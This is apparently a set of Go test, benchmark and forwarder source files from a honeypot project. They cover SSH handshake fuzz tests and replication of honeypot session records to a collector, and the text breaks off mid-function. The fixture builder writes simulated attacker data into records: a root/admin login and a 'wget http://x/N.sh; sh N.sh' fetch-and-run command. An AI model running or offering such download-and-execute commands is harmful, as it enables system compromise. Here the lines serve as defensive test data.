func TestServerRejectsTinyPacketLength(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte(DefaultClientVersion + "\r\n"))
	nc.Write([]byte{0, 0, 0, 1, 0})
	expectHandshakeError(t, errCh, "tiny packet")
}

func TestServerRejectsTruncatedKexInit(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte(DefaultClientVersion + "\r\n"))
	// A well-framed packet whose payload is a truncated KEXINIT.
	payload := []byte{MsgKexInit, 1, 2, 3} // cookie cut short
	pkt, err := framePacket(payload)
	if err != nil {
		t.Fatal(err)
	}
	nc.Write(pkt)
	expectHandshakeError(t, errCh, "truncated KEXINIT")
}

func TestServerRejectsNoCommonAlgorithms(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte(DefaultClientVersion + "\r\n"))
	m := &KexInitMsg{
		KexAlgos:                []string{"diffie-hellman-group1-sha1"},
		HostKeyAlgos:            []string{"ssh-dss"},
		CiphersClientServer:     []string{"3des-cbc"},
		CiphersServerClient:     []string{"3des-cbc"},
		MACsClientServer:        []string{"hmac-md5"},
		MACsServerClient:        []string{"hmac-md5"},
		CompressionClientServer: []string{"none"},
		CompressionServerClient: []string{"none"},
	}
	pkt, err := framePacket(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	nc.Write(pkt)
	expectHandshakeError(t, errCh, "no common algorithms")
}

func TestServerRejectsInvalidECDHKey(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte(DefaultClientVersion + "\r\n"))
	c := &Conn{cipherPrefs: (*Config)(nil).cipherPrefs(), macPrefs: (*Config)(nil).macPrefs()}
	init, err := c.makeKexInit()
	if err != nil {
		t.Fatal(err)
	}
	pkt, _ := framePacket(init.Marshal())
	nc.Write(pkt)

	// Bogus ECDH init: a 7-byte "public key".
	b := NewBuilder(16)
	b.Byte(MsgKexECDHInit)
	b.String([]byte{1, 2, 3, 4, 5, 6, 7})
	pkt, _ = framePacket(b.Bytes())
	nc.Write(pkt)
	expectHandshakeError(t, errCh, "invalid ECDH key")
}

// TestServerSurvivesRandomBytes hurls random byte streams at the
// handshake: the server must return an error, never hang or panic.
func TestServerSurvivesRandomBytes(t *testing.T) {
	rng := rand.New(rand.NewSource(123))
	for i := 0; i < 10; i++ {
		addr, errCh := startRawServer(t)
		nc := dialRaw(t, addr)
		buf := make([]byte, 512+rng.Intn(2048))
		rng.Read(buf)
		// Random bytes rarely start with "SSH-": handshake fails at the
		// version, the packet layer, or the MAC.
		nc.Write(buf)
		nc.Close()
		expectHandshakeError(t, errCh, "random bytes")
	}
}

// TestReaderNeverPanics exercises the wire decoders against arbitrary
// buffers.
func TestReaderNeverPanics(t *testing.T) {
	f := func(buf []byte) bool {
		r := NewReader(buf)
		r.Byte()
		r.Uint32()
		r.String()
		r.NameList()
		r.Mpint()
		r.Uint64()
		r.Bool()
		r.Rest()
		_, _ = ParseKexInit(buf)
		_, _ = ParseDisconnect(buf)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

// TestVerifyHostSignatureMalformedBlobs must reject garbage blobs
// without panicking.
func TestVerifyHostSignatureMalformedBlobs(t *testing.T) {
	f := func(pub, sig, data []byte) bool {
		return VerifyHostSignature(pub, sig, data) != nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}
