package fleet

import (
	"math/rand"
	"net"
	"testing"
	"time"
)

// dialRaw opens a plain TCP connection to the collector for driving
// the wire protocol by hand.
func dialRaw(t *testing.T, addr string) net.Conn {
	t.Helper()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// TestDedupProperty is the delivery property test: whatever redelivery,
// reordering, or duplication an edge inflicts on the wire — batches
// resent, shuffled, overlapping, or skipping ahead — the collector
// commits each (nodeID, seq) exactly once, in order, with no gaps.
// Randomized schedules are driven through a raw wire client (the real
// forwarder never reorders; the adversarial one here may), followed by
// one clean in-order sweep standing in for the forwarder's eventual
// rewind-and-resend, after which the shard must hold exactly the
// canonical sequence.
func TestDedupProperty(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	const total = 400
	st := fillStore(t, total)
	recLines := lines(t, st)
	st.Close()

	for trial := 0; trial < 8; trial++ {
		rng := rand.New(rand.NewSource(int64(1000 + trial)))
		node := nodeName(trial)

		c := dialRaw(t, addr.String())
		if err := writeJSONFrame(c, frameHello, helloMsg{V: ProtocolVersion, Node: node}); err != nil {
			t.Fatal(err)
		}
		var buf []byte
		typ, payload, err := readFrame(c, &buf)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := parseCursorFrame(typ, payload, frameHelloAck); err != nil {
			t.Fatal(err)
		}

		// Build an adversarial schedule: contiguous batches covering
		// 0..total, shuffled, with random batches duplicated and a few
		// far-future gap batches mixed in.
		type batch struct{ base, end int }
		var sched []batch
		for base := 0; base < total; {
			end := base + 1 + rng.Intn(40)
			if end > total {
				end = total
			}
			sched = append(sched, batch{base, end})
			base = end
		}
		for i := 0; i < len(sched)/2; i++ { // duplicates
			sched = append(sched, sched[rng.Intn(len(sched))])
		}
		for i := 0; i < 3; i++ { // gap batches skipping ahead
			base := rng.Intn(total-10) + 5
			sched = append(sched, batch{base + total, base + total + 3})
		}
		rng.Shuffle(len(sched), func(i, j int) { sched[i], sched[j] = sched[j], sched[i] })
		// Every schedule ends with one clean in-order sweep: the
		// at-least-once guarantee that delivery eventually completes.
		sched = append(sched, batch{0, total})

		send := func(b batch) uint64 {
			var body []byte
			for s := b.base; s < b.end; s++ {
				line := []byte(`{"id":0}`) // filler for out-of-range seqs
				if s < total {
					line = recLines[s]
				}
				body = appendBatchRecord(body, line)
			}
			head := batchHeader(nil, uint64(b.base), b.end-b.base)
			if err := writeFrame(c, frameBatch, head, body); err != nil {
				t.Fatal(err)
			}
			typ, payload, err := readFrame(c, &buf)
			if err != nil {
				t.Fatal(err)
			}
			next, err := parseCursorFrame(typ, payload, frameAck)
			if err != nil {
				t.Fatal(err)
			}
			return next
		}
		var last uint64
		for _, b := range sched {
			next := send(b)
			if next < last {
				t.Fatalf("trial %d: collector cursor went backwards: %d after %d", trial, next, last)
			}
			last = next
		}
		if last != total {
			t.Fatalf("trial %d: final cursor %d, want %d", trial, last, total)
		}
		c.Close()

		// The shard holds exactly the canonical sequence.
		var shardLines [][]byte
		for _, sh := range srv.Fleet().Shards() {
			if sh.Node == node {
				shardLines = lines(t, sh.Store)
			}
		}
		if len(shardLines) != total {
			t.Fatalf("trial %d: shard holds %d records, want %d", trial, len(shardLines), total)
		}
		for i := range shardLines {
			if string(shardLines[i]) != string(recLines[i]) {
				t.Fatalf("trial %d: record %d differs", trial, i)
			}
		}
	}
}

func nodeName(trial int) string {
	return "prop-" + string(rune('a'+trial))
}
