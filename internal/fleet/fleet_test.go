package fleet

import (
	"bytes"
	"errors"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// mkRec builds a deterministic record; i varies month, content, and
// protocol the same way the store's own tests do.
func mkRec(i int) *session.Record {
	start := time.Date(2021, time.Month(5+i%3), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 53 * time.Second)
	r := &session.Record{
		ID:         uint64(i),
		Start:      start,
		End:        start.Add(30 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("203.0.%d.%d", i%3, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	if i%4 == 3 {
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	return r
}

// fillStore opens a fresh store and appends n deterministic records.
func fillStore(t *testing.T, n int) *store.Store {
	t.Helper()
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < n; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	return st
}

// lines returns every canonical record line in a store, in seq order.
func lines(t *testing.T, st *store.Store) [][]byte {
	t.Helper()
	var out [][]byte
	cur := st.ScanSeq(0)
	defer cur.Close()
	for cur.Next() {
		out = append(out, append([]byte(nil), cur.Line()...))
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// assertShardEquals checks the collector's shard for node holds exactly
// the edge store's records, byte for byte, in the same order.
func assertShardEquals(t *testing.T, srv *Server, node string, edge *store.Store) {
	t.Helper()
	var shard *store.Store
	for _, sh := range srv.Fleet().Shards() {
		if sh.Node == node {
			shard = sh.Store
		}
	}
	if shard == nil {
		t.Fatalf("collector has no shard for node %s", node)
	}
	got, want := lines(t, shard), lines(t, edge)
	if len(got) != len(want) {
		t.Fatalf("shard %s has %d records, edge has %d", node, len(got), len(want))
	}
	for i := range want {
		if !bytes.Equal(got[i], want[i]) {
			t.Fatalf("shard %s record %d differs:\n got %s\nwant %s", node, i, got[i], want[i])
		}
	}
}

func TestFleetOptionsValidate(t *testing.T) {
	ok := []Options{
		{},
		{Batch: 64, MaxDelay: time.Millisecond, AckWindow: 256},
		{AckWindow: 256}, // default batch 256 fits exactly
		{DialTimeout: time.Second, RetryMin: time.Millisecond, RetryMax: time.Second},
	}
	for i, o := range ok {
		if err := o.Validate(); err != nil {
			t.Errorf("options %d: unexpected error: %v", i, err)
		}
	}
	bad := []Options{
		{Batch: -1},
		{MaxDelay: -time.Millisecond},
		{AckWindow: -1},
		{Batch: 100, AckWindow: 50}, // window can never fit one batch
		{AckWindow: 255},            // below the default batch
		{DialTimeout: -time.Second},
		{RetryMin: -time.Millisecond},
	}
	for i, o := range bad {
		if err := o.Validate(); err == nil {
			t.Errorf("options %d (%+v): expected validation error", i, o)
		}
	}
	// NewForwarder rejects invalid options and node ids up front.
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, err := NewForwarder("127.0.0.1:1", "n", st, Options{Batch: -1}); err == nil {
		t.Error("NewForwarder accepted invalid options")
	}
	if _, err := NewForwarder("127.0.0.1:1", "bad/node", st, Options{}); err == nil {
		t.Error("NewForwarder accepted invalid node id")
	}
	if _, err := NewServer(t.TempDir(), ServerOptions{Store: store.Options{MaxBatch: -1}}); err == nil {
		t.Error("NewServer accepted invalid store options")
	}
}

// TestWireRoundTrip pushes every frame shape through the encoder and
// back.
func TestWireRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := writeJSONFrame(&buf, frameHello, helloMsg{V: 1, Node: "edge-1"}); err != nil {
		t.Fatal(err)
	}
	body := appendBatchRecord(nil, []byte(`{"id":1}`))
	body = appendBatchRecord(body, []byte(`{"id":2}`))
	head := batchHeader(nil, 42, 2)
	if err := writeFrame(&buf, frameBatch, head, body); err != nil {
		t.Fatal(err)
	}

	var rbuf []byte
	typ, payload, err := readFrame(&buf, &rbuf)
	if err != nil || typ != frameHello {
		t.Fatalf("frame 1: typ %d err %v", typ, err)
	}
	if string(payload) != `{"v":1,"node":"edge-1"}` {
		t.Fatalf("hello payload %q", payload)
	}
	typ, payload, err = readFrame(&buf, &rbuf)
	if err != nil || typ != frameBatch {
		t.Fatalf("frame 2: typ %d err %v", typ, err)
	}
	base, count, rest, err := parseBatch(payload)
	if err != nil || base != 42 || count != 2 {
		t.Fatalf("parseBatch: base %d count %d err %v", base, count, err)
	}
	for i, want := range []string{`{"id":1}`, `{"id":2}`} {
		var line []byte
		if line, rest, err = nextBatchRecord(rest); err != nil || string(line) != want {
			t.Fatalf("record %d: %q err %v", i, line, err)
		}
	}
	if len(rest) != 0 {
		t.Fatalf("trailing batch bytes: %q", rest)
	}

	// Corrupt inputs are rejected, not crashed on.
	if _, _, _, err := parseBatch(nil); err == nil {
		t.Error("parseBatch accepted empty payload")
	}
	if _, _, err := nextBatchRecord([]byte{0x09, 'x'}); err == nil {
		t.Error("nextBatchRecord accepted truncated record")
	}
	bad := bytes.NewReader([]byte{0xff, 0xff, 0xff, 0xff, 0x01})
	if _, _, err := readFrame(bad, &rbuf); err == nil {
		t.Error("readFrame accepted oversized length prefix")
	}
}

// TestForwardEndToEnd streams a store with history (records appended
// before the forwarder existed) plus live appends into a collector and
// checks the shard is byte-identical, then restarts forwarding to
// confirm resume produces no duplicates.
func TestForwardEndToEnd(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i := 0; i < 100; i++ { // history before the forwarder starts
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}

	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{MaxDelay: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	for i := 100; i < 200; i++ { // live appends race the forwarder
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if !fwd.WaitCaughtUp(10 * time.Second) {
		t.Fatalf("forwarder never caught up: acked %d of %d", fwd.Acked(), st.NextSeq())
	}
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 200 {
		t.Fatalf("collector has %d records, want 200", n)
	}
	assertShardEquals(t, srv, "edge-1", st)

	// Restart forwarding against the same store: resume must redeliver
	// nothing the collector already has.
	for i := 200; i < 250; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	fwd2, err := NewForwarder(addr.String(), "edge-1", st, Options{MaxDelay: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if !fwd2.WaitCaughtUp(10 * time.Second) {
		t.Fatal("restarted forwarder never caught up")
	}
	if err := fwd2.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 250 {
		t.Fatalf("collector has %d records after resume, want 250", n)
	}
	if d := fwd2.redelivered.Load(); d != 0 {
		t.Fatalf("clean resume redelivered %d records", d)
	}
	assertShardEquals(t, srv, "edge-1", st)
}

// TestForwardReconnectResume injects connection faults on every few
// sends and receives; delivery must still complete exactly once.
func TestForwardReconnectResume(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	var ops atomic.Int64
	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{
		Batch:    16,
		MaxDelay: time.Millisecond,
		RetryMin: time.Millisecond,
		RetryMax: 10 * time.Millisecond,
		Fault: func(op string) error {
			if ops.Add(1)%23 == 0 {
				return errors.New("injected fault")
			}
			return nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 500; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	if !fwd.WaitCaughtUp(30 * time.Second) {
		t.Fatalf("never caught up under faults: acked %d of %d", fwd.Acked(), st.NextSeq())
	}
	if fwd.reconnects.Load() == 0 {
		t.Error("fault injection never forced a reconnect")
	}
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if n := srv.Len(); n != 500 {
		t.Fatalf("collector has %d records, want 500", n)
	}
	assertShardEquals(t, srv, "edge-1", st)
}

// TestServerRejects checks the handshake turns bad hellos into error
// frames, not shards.
func TestServerRejects(t *testing.T) {
	srv, err := NewServer(t.TempDir(), ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	for _, hello := range []helloMsg{
		{V: 99, Node: "edge-1"},  // wrong version
		{V: 1, Node: "bad/node"}, // invalid node id
		{V: 1, Node: ""},         // empty node id
	} {
		c := dialRaw(t, addr.String())
		if err := writeJSONFrame(c, frameHello, hello); err != nil {
			t.Fatal(err)
		}
		var buf []byte
		typ, _, err := readFrame(c, &buf)
		if err != nil {
			t.Fatalf("hello %+v: %v", hello, err)
		}
		if typ != frameError {
			t.Errorf("hello %+v: got frame type %d, want error", hello, typ)
		}
		c.Close()
	}
	if n := srv.Nodes(); n != 0 {
		t.Fatalf("rejected hellos created %d shards", n)
	}
}

// TestCollectorRestartResumesCursor kills a collector (hard close),
// reopens it over the same directory, and checks the advertised cursor
// picks up from the shard's durable record count.
func TestCollectorRestartResumesCursor(t *testing.T) {
	dir := t.TempDir()
	srv, err := NewServer(dir, ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i := 0; i < 120; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			t.Fatal(err)
		}
	}
	fwd, err := NewForwarder(addr.String(), "edge-1", st, Options{MaxDelay: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if !fwd.WaitCaughtUp(10 * time.Second) {
		t.Fatal("never caught up")
	}
	fwd.Close()
	srv.Close()

	srv2, err := NewServer(dir, ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer srv2.Close()
	addr2, err := srv2.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := dialRaw(t, addr2.String())
	defer c.Close()
	if err := writeJSONFrame(c, frameHello, helloMsg{V: ProtocolVersion, Node: "edge-1"}); err != nil {
		t.Fatal(err)
	}
	var buf []byte
	typ, payload, err := readFrame(c, &buf)
	if err != nil {
		t.Fatal(err)
	}
	next, err := parseCursorFrame(typ, payload, frameHelloAck)
	if err != nil {
		t.Fatal(err)
	}
	if next != 120 {
		t.Fatalf("restarted collector advertises cursor %d, want 120", next)
	}
}
