package fleet

import (
	"fmt"
	"testing"
	"time"

	"honeynet/internal/store"
)

// BenchmarkFleetForward measures end-to-end replication throughput:
// b.N records already durable in an edge store, streamed through the
// wire protocol into a collector shard, timed until the last ack.
func BenchmarkFleetForward(b *testing.B) {
	srv, err := NewServer(b.TempDir(), ServerOptions{})
	if err != nil {
		b.Fatal(err)
	}
	defer srv.Close()
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	st, err := store.Open(b.TempDir(), store.Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	for i := 0; i < b.N; i++ {
		if err := st.Append(mkRec(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := st.Flush(); err != nil {
		b.Fatal(err)
	}

	b.ResetTimer()
	fwd, err := NewForwarder(addr.String(), "bench-edge", st, Options{Batch: 512, AckWindow: 4096})
	if err != nil {
		b.Fatal(err)
	}
	if !fwd.WaitCaughtUp(10 * time.Minute) {
		b.Fatalf("forward never completed: acked %d of %d", fwd.Acked(), st.NextSeq())
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "recs/s")
	fwd.Close()
	if srv.Len() != b.N {
		b.Fatalf("collector has %d records, want %d", srv.Len(), b.N)
	}
}

// BenchmarkFleetScanScatterGather measures the merged read path: a
// four-shard fleet of sealed stores, fully scanned in (time, node)
// merge order each iteration.
func BenchmarkFleetScanScatterGather(b *testing.B) {
	const nodes, per = 4, 5000
	dir := b.TempDir()
	if err := store.WriteFleetMarker(dir); err != nil {
		b.Fatal(err)
	}
	for n := 0; n < nodes; n++ {
		sh, err := store.Open(store.ShardDir(dir, fmt.Sprintf("bench-%d", n)), store.Options{})
		if err != nil {
			b.Fatal(err)
		}
		for i := 0; i < per; i++ {
			if err := sh.Append(mkRec(i*nodes + n)); err != nil {
				b.Fatal(err)
			}
		}
		if err := sh.Close(); err != nil { // Close seals
			b.Fatal(err)
		}
	}
	fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
	if err != nil {
		b.Fatal(err)
	}
	defer fl.Close()

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cur := fl.Scan(store.TimeRange{}, nil)
		got := 0
		for cur.Next() {
			got++
		}
		if err := cur.Err(); err != nil {
			b.Fatal(err)
		}
		cur.Close()
		if got != nodes*per {
			b.Fatalf("scanned %d records, want %d", got, nodes*per)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)*nodes*per/b.Elapsed().Seconds(), "recs/s")
}
