package fleet

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/store"
)

// Options parameterizes a Forwarder. The zero value selects every
// default; Validate rejects out-of-range values rather than silently
// correcting them (mirroring store.Options).
type Options struct {
	// Batch caps how many records one batch frame carries. Zero means
	// 256; negative is rejected.
	Batch int
	// MaxDelay bounds how long an appended record may linger waiting
	// for a batch to fill before it is forwarded anyway. Zero means
	// 2ms; negative is rejected.
	MaxDelay time.Duration
	// AckWindow caps how many records may be in flight (sent but not
	// acknowledged) before the forwarder waits for acks. Zero means
	// 4x Batch; a positive value smaller than Batch is rejected (the
	// window could never fit one batch); negative is rejected.
	AckWindow int
	// DialTimeout bounds one connection attempt (default 5s).
	DialTimeout time.Duration
	// RetryMin/RetryMax bound the reconnect backoff (default 100ms..5s).
	RetryMin, RetryMax time.Duration
	// Fault, if set, is called before every dial, send, and receive
	// with the operation name; a non-nil return injects that error as
	// a connection fault. Test hook: the race soak drops connections
	// through it.
	Fault func(op string) error
}

// Validate rejects option values outside their documented range.
func (o *Options) Validate() error {
	switch {
	case o.Batch < 0:
		return fmt.Errorf("fleet: negative Batch %d", o.Batch)
	case o.MaxDelay < 0:
		return fmt.Errorf("fleet: negative MaxDelay %v", o.MaxDelay)
	case o.AckWindow < 0:
		return fmt.Errorf("fleet: negative AckWindow %d", o.AckWindow)
	case o.AckWindow > 0 && o.AckWindow < o.batch():
		return fmt.Errorf("fleet: AckWindow %d smaller than Batch %d", o.AckWindow, o.batch())
	case o.DialTimeout < 0:
		return fmt.Errorf("fleet: negative DialTimeout %v", o.DialTimeout)
	case o.RetryMin < 0 || o.RetryMax < 0:
		return fmt.Errorf("fleet: negative retry backoff %v/%v", o.RetryMin, o.RetryMax)
	}
	return nil
}

func (o *Options) batch() int {
	if o.Batch == 0 {
		return 256
	}
	return o.Batch
}

func (o *Options) maxDelay() time.Duration {
	if o.MaxDelay == 0 {
		return 2 * time.Millisecond
	}
	return o.MaxDelay
}

func (o *Options) ackWindow() int {
	if o.AckWindow == 0 {
		return 4 * o.batch()
	}
	return o.AckWindow
}

func (o *Options) dialTimeout() time.Duration {
	if o.DialTimeout == 0 {
		return 5 * time.Second
	}
	return o.DialTimeout
}

func (o *Options) retryMin() time.Duration {
	if o.RetryMin == 0 {
		return 100 * time.Millisecond
	}
	return o.RetryMin
}

func (o *Options) retryMax() time.Duration {
	if o.RetryMax == 0 {
		return 5 * time.Second
	}
	return o.RetryMax
}

// errStopped ends the run loop when Close is called.
var errStopped = errors.New("fleet: forwarder stopped")

// Forwarder tails a node's local store and streams its records to a
// collector, batched, windowed, and resumable: the collector's hello
// acknowledgment names the sequence to resume from after any
// disconnect, and the local WAL sequence is the only cursor state.
// Records are forwarded only after they are durable locally (the
// forwarder flushes the store's WAL past the batch it is about to
// send), so a crashed-and-restarted edge can only redeliver records
// the collector deduplicates — never mint new records under sequences
// the collector has already accepted.
type Forwarder struct {
	addr, node string
	st         *store.Store
	opts       Options

	stop chan struct{}
	done chan struct{}

	mu      sync.Mutex
	cursor  uint64 // next sequence to send
	acked   uint64 // collector-confirmed contiguous high water
	durable uint64 // WAL flushed at least this far

	connected    atomic.Bool
	sent         atomic.Int64
	batches      atomic.Int64
	flushes      atomic.Int64
	reconnects   atomic.Int64
	redelivered  atomic.Int64
	rewinds      atomic.Int64
	lastErr      atomic.Value // string
	ackedMetric  atomic.Int64
	helloLatency atomic.Int64 // ns of the last successful hello round trip
}

// NewForwarder starts forwarding st's records to the collector at
// addr, identifying as node. It returns immediately; connection
// management (dial, backoff, resume) runs in the background until
// Close.
func NewForwarder(addr, node string, st *store.Store, opts Options) (*Forwarder, error) {
	if err := opts.Validate(); err != nil {
		return nil, err
	}
	if !store.ValidNodeID(node) {
		return nil, fmt.Errorf("fleet: invalid node id %q", node)
	}
	f := &Forwarder{
		addr: addr, node: node, st: st, opts: opts,
		stop: make(chan struct{}),
		done: make(chan struct{}),
	}
	go f.run()
	return f, nil
}

// run dials, streams, and redials with exponential backoff until Close.
func (f *Forwarder) run() {
	defer close(f.done)
	backoff := f.opts.retryMin()
	for {
		select {
		case <-f.stop:
			return
		default:
		}
		established, err := f.session()
		f.connected.Store(false)
		if err == errStopped {
			return
		}
		if err != nil {
			f.lastErr.Store(err.Error())
		}
		if established {
			backoff = f.opts.retryMin()
		}
		f.reconnects.Add(1)
		t := time.NewTimer(backoff)
		select {
		case <-f.stop:
			t.Stop()
			return
		case <-t.C:
		}
		if backoff *= 2; backoff > f.opts.retryMax() {
			backoff = f.opts.retryMax()
		}
	}
}

// fault runs the injection hook, if any.
func (f *Forwarder) fault(op string) error {
	if f.opts.Fault == nil {
		return nil
	}
	return f.opts.Fault(op)
}

// session runs one connection lifetime: hello/resume handshake, then
// the batching send loop, with a reader goroutine applying acks. It
// returns whether the handshake completed (resets the backoff).
func (f *Forwarder) session() (established bool, err error) {
	if err := f.fault("dial"); err != nil {
		return false, err
	}
	conn, err := net.DialTimeout("tcp", f.addr, f.opts.dialTimeout())
	if err != nil {
		return false, err
	}
	defer conn.Close()

	start := time.Now()
	bw := bufio.NewWriterSize(conn, 256<<10)
	if err := writeJSONFrame(bw, frameHello, helloMsg{V: ProtocolVersion, Node: f.node}); err != nil {
		return false, err
	}
	if err := bw.Flush(); err != nil {
		return false, err
	}
	conn.SetReadDeadline(time.Now().Add(f.opts.dialTimeout()))
	br := bufio.NewReaderSize(conn, 64<<10)
	var rbuf []byte
	typ, payload, err := readFrame(br, &rbuf)
	if err != nil {
		return false, err
	}
	resume, err := parseCursorFrame(typ, payload, frameHelloAck)
	if err != nil {
		return false, err
	}
	conn.SetReadDeadline(time.Time{})
	f.helloLatency.Store(int64(time.Since(start)))

	f.mu.Lock()
	if resume < f.cursor {
		f.redelivered.Add(int64(f.cursor - resume))
	}
	f.cursor = resume
	if resume > f.acked {
		f.acked = resume
	}
	f.ackedMetric.Store(int64(f.acked))
	f.mu.Unlock()
	f.connected.Store(true)

	// Reader: applies acks (and collector-commanded rewinds) until the
	// connection dies; ackCh nudges the send loop's window wait.
	// readerErr is written before readerDone closes, so any reader of
	// the closed channel sees it race-free.
	ackCh := make(chan struct{}, 1)
	readerDone := make(chan struct{})
	var readerErr error
	go func() {
		defer close(readerDone)
		var buf []byte
		prev := resume
		for {
			if err := f.fault("recv"); err != nil {
				conn.Close()
				readerErr = err
				return
			}
			typ, payload, err := readFrame(br, &buf)
			if err != nil {
				readerErr = err
				return
			}
			next, err := parseCursorFrame(typ, payload, frameAck)
			if err != nil {
				conn.Close()
				readerErr = err
				return
			}
			f.mu.Lock()
			if next > f.acked {
				f.acked = next
			}
			// A no-progress ack while our cursor is ahead means the
			// collector saw a sequence gap and is re-stating its cursor:
			// rewind and resend. A normal in-flight ack always advances
			// past the previous one, so it never trips this.
			if next == prev && next < f.cursor {
				f.rewinds.Add(1)
				f.redelivered.Add(int64(f.cursor - next))
				f.cursor = next
			}
			prev = next
			f.ackedMetric.Store(int64(f.acked))
			f.mu.Unlock()
			select {
			case ackCh <- struct{}{}:
			default:
			}
		}
	}()

	err = f.sendLoop(conn, bw, ackCh, readerDone, &readerErr)
	conn.Close()
	<-readerDone
	if err == nil {
		err = readerErr
	}
	return true, err
}

// sendLoop batches available records and streams them, respecting the
// ack window and the per-record MaxDelay linger.
func (f *Forwarder) sendLoop(conn net.Conn, bw *bufio.Writer, ackCh chan struct{}, readerDone chan struct{}, readerErr *error) error {
	watch := f.st.Watch()
	var head, body []byte
	var deadline time.Time // first-pending-record linger bound
	for {
		select {
		case <-f.stop:
			return errStopped
		case <-readerDone:
			return *readerErr
		default:
		}

		f.mu.Lock()
		cursor, acked := f.cursor, f.acked
		f.mu.Unlock()
		avail := int64(f.st.NextSeq()) - int64(cursor)

		if avail <= 0 {
			deadline = time.Time{}
			select {
			case <-f.stop:
				return errStopped
			case <-readerDone:
				return *readerErr
			case <-watch:
			}
			continue
		}

		// Linger a partial batch up to MaxDelay from when its first
		// record became available, then ship whatever is there.
		if int(avail) < f.opts.batch() {
			if deadline.IsZero() {
				deadline = time.Now().Add(f.opts.maxDelay())
			}
			if wait := time.Until(deadline); wait > 0 {
				t := time.NewTimer(wait)
				select {
				case <-f.stop:
					t.Stop()
					return errStopped
				case <-readerDone:
					t.Stop()
					return *readerErr
				case <-watch:
					t.Stop()
					continue
				case <-t.C:
				}
			}
		}
